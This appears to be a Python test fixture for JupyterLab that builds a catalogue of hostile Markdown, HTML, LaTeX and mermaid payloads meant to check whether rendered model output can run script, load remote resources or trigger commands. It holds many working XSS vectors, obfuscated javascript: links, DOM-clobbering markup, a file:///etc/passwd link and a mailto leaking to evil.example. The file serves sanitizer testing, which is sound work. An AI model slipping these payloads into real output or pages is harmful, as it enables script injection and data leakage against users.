"""What a hostile model may write: payloads that want to run, to load, to lead elsewhere, or to press a button.

Enters: the address of a server that nobody should ask, so that a load is seen. Leaves: payloads by class.
"""

from __future__ import annotations

from datetime import UTC, datetime
from typing import NamedTuple
from urllib.parse import quote

RUN = "top.PWNED=1"
"""What a script of theirs does."""

COMMAND = "test:forbidden"
"""A command of JupyterLab that counts how often it is executed."""

_LINKED = f"data-commandlinker-command='{COMMAND}' data-commandlinker-args='{{}}'"
_HANDLER = f'onerror="{RUN}"'
_BASE64 = "PHNjcmlwdD50b3AuUFdORUQ9MTwvc2NyaXB0Pg=="  # <script>top.PWNED=1</script>
_PICTURE = quote('<svg xmlns="http://www.w3.org/2000/svg"><image href="URL/d.png"/></svg>')

HTML = {
    "script": f"<script>{RUN}</script>",
    "script from there": "<script src=URL/s.js></script>",
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT>",
    "script in a line": f"Some words <script>{RUN}</script> in a line.",
    "img": f"<img src=x {_HANDLER}>",
    "img in a list": f"- <img src=x {_HANDLER}>\n  - <img src=URL/l.png>",
    "img with a slash": f"<img/src=x/{_HANDLER}>",
    "img srcset": '<img srcset="URL/a.png 1x, URL/b.png 2x">',
    "img lowsrc": "<img lowsrc=URL/low.png dynsrc=URL/dyn.png src=URL/i.png>",
    "picture": '<picture><source srcset="URL/p.png"><img src=x></picture>',
    "svg": f'<svg onload="{RUN}"></svg>',
    "svg image": '<svg><image href="URL/i.png"/><use href="URL/u.svg#x"/><feImage href="URL/f.png"/></svg>',
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=9>x</text></a></svg>',
    "svg script": f"<svg><script>{RUN}</script><script href=URL/s.js /></svg>",
    "iframe": '<iframe src="URL/f.html"></iframe>',
    "iframe srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "object": '<object data="URL/o.html"></object><embed src="URL/e.html">',
    "audio and video": f"<audio src=URL/a.mp3 {_HANDLER}></audio><video poster=URL/v.png><source src=URL/v.mp4 {_HANDLER}>",
    "track": '<video><track default src="URL/t.vtt"></video>',
    "details": f'<details open ontoggle="{RUN}">x</details>',
    "style": "<style>@import 'URL/c.css'; * { background: url(URL/b.png) }</style>",
    "style attribute": '<div style="background:url(URL/b.png); list-style-image: url(URL/l.png)">x</div>',
    "link": "<link rel=stylesheet href=URL/c.css><link rel=prefetch href=URL/p><link rel=dns-prefetch href=URL>",
    "base": '<base href="URL/"><img src=b.png>',
    "meta": '<meta http-equiv=refresh content="0;url=URL/m">',
    "form": f'<form action=URL/f><input autofocus onfocus="{RUN}"><button formaction="javascript:{RUN}">x</button></form>',
    "input image": "<input type=image src=URL/i.png>",
    "select": f'<select autofocus onfocus="{RUN}"><option>x</select><textarea autofocus onfocus="{RUN}"></textarea>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee><blink onclick="{RUN}">',
    "template": f"<template><script>{RUN}</script></template><slot><img src=x {_HANDLER}></slot>",
    "portal": "<portal src=URL/p></portal><fencedframe src=URL/ff></fencedframe><frameset><frame src=URL/fr></frameset>",
    "handlers": f'<b onmouseover="{RUN}" onclick="{RUN}" onpointerenter="{RUN}" onanimationstart="{RUN}">x</b>',
    "body": f'<body onload="{RUN}" background=URL/b.png onpageshow="{RUN}">',
    "table": "<table background=URL/t.png><tr><td background=URL/td.png>x</table>",
    "ping": '<a href="#x" ping="URL/ping">x</a>',
    "target": '<a href="URL/t" target="_top" rel="opener">x</a>',
    "comment": f"<!--><img src=x {_HANDLER}>--> <!-- --!><img src=x {_HANDLER}>",
    "cdata": f"<![CDATA[<img src=x {_HANDLER}>]]> <?php <img src=x {_HANDLER}> ?> <!DOCTYPE x>",
    "noscript": f'<noscript><p title="</noscript><img src=x {_HANDLER}>">',
    "math and style": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x {_HANDLER}&gt;">',
    "title and xmp": f"<title><img src=x {_HANDLER}></title><xmp></xmp><img src=x {_HANDLER}><plaintext>",
    "unfinished": f"<img src=x {_HANDLER}",
    "clobber": "<form id=jupyterapp><input name=commands></form><a id=top></a><img name=body><a id=askance href=URL>",
    "custom element": f'<x-y onfocus="{RUN}" autofocus tabindex=1>x</x-y><jp-button onclick="{RUN}">x</jp-button>',
}

LINKS = {
    "javascript": f"[go](javascript:{RUN}) <javascript:{RUN}> [go](JaVaScRiPt:{RUN}) [go](<javascript:{RUN}>)",
    "javascript in entities": f"[go](&#106;avascript:{RUN}) [go](javascript&colon;{RUN}) [go](java&Tab;script:{RUN})",
    "javascript and signs": f"[go](java\u200bscript:{RUN}) [go](\x01javascript:{RUN}) [go](java%0ascript:{RUN}) [x](&NewLine;javascript:{RUN})",
    "javascript by reference": f"[go][r] [r] ![go][r]\n\n[r]: javascript:{RUN} 'x'\n[q]:\n  <vbscript:{RUN}>\n\n[q]",
    "data": f"[go](data:text/html;base64,{_BASE64}) [go](vbscript:{RUN}) [go](blob:http://127.0.0.1/x) [go](file:///etc/passwd)",
    "places": "[a](//127.0.0.1:9/x) [b](\\\\127.0.0.1\\x) [c](../api/contents) [d](/lab?reset) [e](files/x.html) [f](lab://x) [g](attachment:x.png)",
    "mail": "[m](mailto:a@b.example?bcc=c@evil.example&body=x) <mailto:a@b.example?attach=/etc/passwd>",
    "another host": "[https://google.com](URL/phish) [google.com](https://google.com@127.0.0.1:9/) <https://g\u043e\u043egle.com>",
    "turned around": "[\u202emoc.elgoog\u202c](URL/rlo) [x\u2066y](URL/iso) \u202e see [docs](URL/d)",
    "long": f"[x](URL/{'a' * 3000}) URL/{'b' * 3000}",
    "lines": f"a\u2028<img src=x {_HANDLER}>\u2029[x](java\u2028script:{RUN})\x0c\x85<svg onload={RUN}>",
    "title": f"[x](https://ok.example 'a\" onmouseover=\"{RUN}') [x](https://ok.example \"' {_HANDLER}\")",
    "nested": f"[![i](URL/n.png)](javascript:{RUN}) [a[b](javascript:{RUN})](javascript:{RUN})",
    "footnotes": f"See[^1].\n\n[^1]: <img src=x {_HANDLER}> [x](javascript:{RUN})\n[^2]: javascript:{RUN}\n\n[^2]",
}  # fmt: skip

IMAGES = {
    "image": "![secret](URL/x.png?q=secret)",
    "image by reference": "![a][i] ![i][]\n\n[i]: URL/ref.png",
    "image of a data address": f"![a](data:image/svg+xml,{_PICTURE})",
    "image in a table": "| a |\n|---|\n| ![a](URL/t.png) |\n| <img src=URL/u.png> |",
    "attachment": "![a](attachment:../../x.png) ![b](files/x.svg) ![c](//127.0.0.1:9/x.png)",
}

FORMULAS = {
    "href": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\href{{URL/h}}{{y}}$$ $\\url{{javascript:{RUN}}}$",
    "includegraphics": "$\\includegraphics{URL/g.png}$ $\\image{URL/i.png}$",
    "html": f"$\\html{{<img src=x {_HANDLER}>}} \\htmlData{{commandlinker-command={COMMAND}}}{{z}} \\data{{x=y}}{{z}}$",
    "class and style": "$\\class{jp-Dialog}{x} \\cssId{top}{x} \\style{background:url(URL/s.png)}{x} \\bbox[background:url(URL/b.png)]{x}$",
    "text": f"$\\text{{<img src=x {_HANDLER}>}} \\unicode{{x3c}}\\char60$ \\\\(<img src=x {_HANDLER}>\\\\) $$<script>{RUN}</script>$$",
    "defined": f"$\\def\\h#1{{\\href{{javascript:{RUN}}}{{#1}}}}\\h{{x}} \\require{{html}}\\let\\g=\\href \\g{{javascript:{RUN}}}{{x}}$",
    "formula in an address": f"[x](<https://ok.example/$\" autofocus tabindex=1 onfocus={RUN} x=$>) https://ok.example/$\"onmouseover=\"{RUN}\"x=$ [y](https://ok.example '$\" onmouseover={RUN} x=\"$')",
}  # fmt: skip

BLOCKS = {
    "info": f'```x"><img src=x {_HANDLER}>\ncode\n```\n\n```y" onmouseover="{RUN}" autofocus onfocus="{RUN}" tabindex="1\ncode\n```',
    "mermaid": f'```mermaid\ngraph TD\n A@{{ img: "URL/m.png", label: "x" }}\n B["<img src=URL/n.png {_HANDLER}>"]\n click A call {RUN}\n```',
    "mermaid that ends": f"```mermaid\n</pre><script>{RUN}</script><img src=URL/q.png>\n```",
    "raw": f'```{{=html}}\n<script>{RUN}</script><img src=URL/raw.png>\n```\n\n:::{{.x onclick="{RUN}"}}\nx\n:::',
    "formula over a fence": f"a $$ b\n```x\n$$\n<img src=x {_HANDLER}><img src=URL/z.png>\n```",
    "environment over a fence": f"\\begin{{a}}\n```x\n\\end{{a}}\n<img src=x {_HANDLER}>\n```\n\n$$\n\n```\n$$\n<img src=x {_HANDLER}><img src=URL/y.png>\n```",
    "fences that are none": f"~`<img src=x {_HANDLER}>`~ https://a.example/`<img src=x {_HANDLER}>` | `a | <img src=URL/p.png>` |\n\n- ```\n  $\n  ```\n  $\n  ```\n  <img src=x {_HANDLER}>\n  ```",
    "code cut off": f"```html\n<img src=x {_HANDLER}>\n\n<script>{RUN}</script>",
}  # fmt: skip

COMMANDS = {
    "button": f"<button {_LINKED}>press</button> <a href='#' {_LINKED}>press</a>",
    "link": f"[press](#{COMMAND}) [press](command:{COMMAND}) <div {_LINKED}>press</div>",
    "command in an address": f'[x](<https://ok.example/$" {_LINKED} x=$>)',
}

CLASSES = {"html": HTML, "links": LINKS, "images": IMAGES, "formulas": FORMULAS, "blocks": BLOCKS, "commands": COMMANDS}


class Payload(NamedTuple):
    """A payload: its class, its name, and what is written."""

    kind: str
    name: str
    text: str


def payloads(url: str) -> list[Payload]:
    """All of them.

    Args:
        url: where their loads go.
    """
    return [
        Payload(kind, name, text.replace("URL", url)) for kind, found in CLASSES.items() for name, text in found.items()
    ]


def some(all_of_them: list[Payload], count: int) -> list[Payload]:
    """So many of them, others each day, with one of each class at least."""
    day = datetime.now(UTC).date().toordinal()
    firsts = []
    for kind in CLASSES:
        members = [one for one in all_of_them if one.kind == kind]
        firsts.append(members[day % len(members)])
    rest = [one for one in all_of_them if one not in firsts]
    start = day * (count - len(firsts)) % len(rest)
    return [*firsts, *(rest[start:] + rest[:start])[: count - len(firsts)]]
